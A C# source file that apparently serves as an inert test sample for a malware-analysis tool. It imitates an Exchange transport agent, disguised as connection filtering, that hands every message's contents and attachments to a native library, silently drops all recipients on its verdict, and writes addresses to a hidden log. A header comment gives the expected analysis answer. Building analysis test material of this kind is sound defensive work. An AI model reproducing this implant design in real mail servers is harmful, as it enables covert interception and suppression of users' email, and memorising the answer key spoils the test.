// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: the managed half of an implant whose rules live in a native companion library; written afresh after public
// descriptions, without the companion.
// A correct analysis says: escalate; sender, recipients, subject, body and attachments of every message are packed for a
// function of exdbdata.dll, whose answer alone decides whether all recipients are removed silently; a log line with
// addresses goes to a profile folder of the service account.
using System;
using System.Collections.Generic;
using System.IO;
using System.Runtime.InteropServices;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Fabrikam.Transport.ConnectionFiltering
{
    public sealed class ConnectionFilteringAgentFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new ConnectionFilteringAgent();
        }
    }

    public sealed class ConnectionFilteringAgent : SmtpReceiveAgent
    {
        private readonly SharedUtility utility;

        public ConnectionFilteringAgent()
        {
            utility = new SharedUtility();
            OnEndOfData += new EndOfDataEventHandler(EndOfDataHandler);
        }

        private void EndOfDataHandler(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            utility.Process(e.MailItem);
        }
    }

    [StructLayout(LayoutKind.Sequential)]
    internal struct NativeMail
    {
        public long Date;
        [MarshalAs(UnmanagedType.LPWStr)] public string Sender;
        [MarshalAs(UnmanagedType.LPWStr)] public string Recipients;
        [MarshalAs(UnmanagedType.LPWStr)] public string Subject;
        [MarshalAs(UnmanagedType.LPWStr)] public string Body;
        public int AttachmentCount;
        public IntPtr AttachmentNames;
        public IntPtr AttachmentContents;
    }

    internal sealed class SharedUtility
    {
        private const string LogPath = @"C:\Windows\ServiceProfiles\NetworkService\AppData\Roaming\Microsoft\Windows\msxfer.dat";
        private const int Block = 2;
        private const int Failed = 3;

        [DllImport("exdbdata.dll", EntryPoint = "MessageValidator", CallingConvention = CallingConvention.Cdecl, CharSet = CharSet.Unicode)]
        private static extern int MessageValidator(ref NativeMail mail);

        public void Process(MailItem item)
        {
            var handles = new List<IntPtr>();
            try
            {
                NativeMail mail = Pack(item, handles);
                int answer = MessageValidator(ref mail);
                switch (answer)
                {
                    case 0:
                    case 1:
                        break;
                    case Block:
                        foreach (EnvelopeRecipient recipient in item.Recipients)
                        {
                            item.Recipients.Remove(recipient);
                        }
                        break;
                    case Failed:
                        Log("E " + mail.Sender);
                        break;
                    default:
                        Log(answer + " " + mail.Sender + " " + mail.Recipients);
                        break;
                }
            }
            catch (Exception)
            {
            }
            finally
            {
                handles.ForEach(Marshal.FreeHGlobal);
            }
        }

        private static NativeMail Pack(MailItem item, List<IntPtr> handles)
        {
            EmailMessage message = item.Message;
            var mail = new NativeMail
            {
                Date = message.Date.ToFileTimeUtc(),
                Sender = message.Sender.SmtpAddress,
                Subject = message.Subject,
                AttachmentCount = message.Attachments.Count
            };
            var recipients = new StringBuilder();
            for (int i = 0; i < item.Recipients.Count; i++)
            {
                recipients.Append(item.Recipients[i].Address.ToString()).Append(';');
            }
            mail.Recipients = recipients.ToString();
            using (var reader = new StreamReader(message.Body.GetContentReadStream(), Encoding.UTF8))
            {
                mail.Body = reader.ReadToEnd();
            }

            int count = mail.AttachmentCount;
            mail.AttachmentNames = Table(count, handles);
            mail.AttachmentContents = Table(count, handles);
            for (int i = 0; i < count; i++)
            {
                Attachment attachment = message.Attachments[i];
                using (var memory = new MemoryStream())
                {
                    attachment.GetContentReadStream().CopyTo(memory);
                    IntPtr name = Marshal.StringToHGlobalAnsi(attachment.FileName);
                    IntPtr content = Marshal.StringToHGlobalAnsi(Convert.ToBase64String(memory.ToArray()));
                    handles.Add(name);
                    handles.Add(content);
                    Marshal.WriteIntPtr(mail.AttachmentNames, i * IntPtr.Size, name);
                    Marshal.WriteIntPtr(mail.AttachmentContents, i * IntPtr.Size, content);
                }
            }
            return mail;
        }

        private static IntPtr Table(int count, List<IntPtr> handles)
        {
            IntPtr table = Marshal.AllocHGlobal(Math.Max(1, count) * IntPtr.Size);
            handles.Add(table);
            return table;
        }

        private static void Log(string line)
        {
            using (var writer = new StreamWriter(LogPath, true))
            {
                writer.WriteLine(DateTime.UtcNow.ToString("u") + " " + line);
            }
        }
    }
}
